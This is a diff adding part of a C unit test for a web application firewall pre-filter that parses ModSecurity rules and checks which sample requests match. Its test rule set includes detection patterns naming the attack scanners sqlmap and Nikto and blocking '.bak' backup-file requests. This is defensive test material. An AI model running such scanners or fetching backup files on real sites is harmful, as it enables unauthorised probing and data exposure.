+	snprintf(path, sizeof(path), "/tmp/gh_waf_pf_small_%d.conf", (int)getpid());
+	FILE *f = fopen(path, "w");
+	fputs(conf, f);
+	fclose(f);
+	const char *files[] = { path };
+	struct waf_pf *pf = waf_pf_build(files, 1, pl, err, sizeof(err));
+	if (!pf)
+		fprintf(stderr, "  build: %s\n", err);
+	unlink(path);
+	return pf;
+}
+
+static bool scan_get(struct waf_pf *pf, const char *target, const char *ua)
+{
+	struct waf_pf_scratch *sc = waf_pf_scratch_new(pf);
+	struct waf_pf_hdr h[2] = {
+		{ "Host", 4, "a.example", 9 },
+		{ "User-Agent", 10, ua, strlen(ua) },
+	};
+	struct waf_pf_req r = { "GET", 3, target, strlen(target), "HTTP/1.1", 8, h, 2, NULL, 0 };
+	bool m = waf_pf_scan(pf, sc, &r);
+	waf_pf_scratch_free(sc);
+	return m;
+}
+
+/* SecLang as the pre-filter reads it: continuations, chains, static
+ * skipAfter gates, transformations, @pm, what never matches. */
+TEST(test_small_rule_set)
+{
+	static const char conf[] =
+		"# a comment\n"
+		"SecAction \"id:1,phase:1,nolog,pass,setvar:tx.limit=5\"\n"
+		"SecRule TX:PARANOIA_LEVEL \"@lt 2\" \"id:2,phase:2,nolog,pass,skipAfter:END-PL2\"\n"
+		"SecRule ARGS \"@rx onlypl2\" \"id:3,phase:2,block,msg:'pl2'\"\n"
+		"SecMarker END-PL2\n"
+		"SecRule ARGS|!ARGS:safe \\\n"
+		"    \"@rx evil\\d+\" \\\n"
+		"    \"id:4,phase:2,block,t:none,t:urlDecodeUni,t:lowercase,msg:'evil',\\\n"
+		"    setvar:'tx.anomaly_score_pl1=+5'\"\n"
+		"SecRule REQUEST_HEADERS:User-Agent \"@pm sqlmap nikto\" \"id:5,phase:1,block,t:none\"\n"
+		"SecRule TX:LIMIT \"@lt 3\" \"id:6,phase:2,block,chain\"\n"
+		"    SecRule ARGS \"@rx .\" \"t:none\"\n"
+		"SecRule REQUEST_FILENAME \"@endsWith .bak\" \"id:7,phase:1,block,t:none,t:lowercase\"\n"
+		"SecRule ARGS \"@rx zzz\" \"id:8,phase:2,block,msg:'a chain here'\"\n"
+		"SecRule ARGS \"@rx yyy\" \"id:9,phase:2,block\"\n";
+	struct waf_pf *pf = small(conf, 1);
+	CHECK(pf != NULL);
+	if (!pf)
+		return;
+	CHECK(!scan_get(pf, "/?a=good&b=1", "Mozilla/5.0"));
+	CHECK(scan_get(pf, "/?a=EVIL12", "Mozilla/5.0"));
+	CHECK(scan_get(pf, "/?a=%45vil7", "Mozilla/5.0"));
+	CHECK(!scan_get(pf, "/?safe=evil1", "Mozilla/5.0"));	/* excluded */
+	CHECK(scan_get(pf, "/?evil9=1", "Mozilla/5.0") == false);	/* names not read */
+	CHECK(!scan_get(pf, "/?a=onlypl2", "Mozilla/5.0"));	/* skipped at PL1 */
+	CHECK(scan_get(pf, "/", "Nikto/2.1"));
+	CHECK(scan_get(pf, "/db.BAK", "x"));
+	CHECK(!scan_get(pf, "/db.bak.txt", "x"));
+	CHECK(scan_get(pf, "/?a=yyy", "x"));	/* "chain" in a msg is no chain */
+	waf_pf_free(pf);
+
+	pf = small(conf, 2);
+	CHECK(pf != NULL);
+	if (pf) {
+		CHECK(scan_get(pf, "/?a=onlypl2", "Mozilla/5.0"));
+		waf_pf_free(pf);
+	}
+
+	/* a rule changed after it was read: the pre-filter claims nothing */
+	static const char upd[] =
+		"SecRule ARGS \"@rx evil\" \"id:4,phase:2,block\"\n"
+		"SecRuleUpdateTargetById 4 REQUEST_HEADERS\n";
+	pf = small(upd, 1);
+	CHECK(pf != NULL);
+	if (pf) {
+		CHECK(scan_get(pf, "/?a=good", "Mozilla/5.0"));
+		waf_pf_free(pf);
+	}
+}
+
+int main(void)
+{
+	RUN(test_small_rule_set);
+	if (access(CRS_LOAD, R_OK) != 0) {
+		printf("test_waf_pf: CRS tests skipped (%s not installed)\n", CRS_LOAD);
+		return UNIT_SUMMARY("test_waf_pf");
+	}
+	RUN(test_build_errors);
+	RUN(test_against_modsecurity);
+	return UNIT_SUMMARY("test_waf_pf");
+}
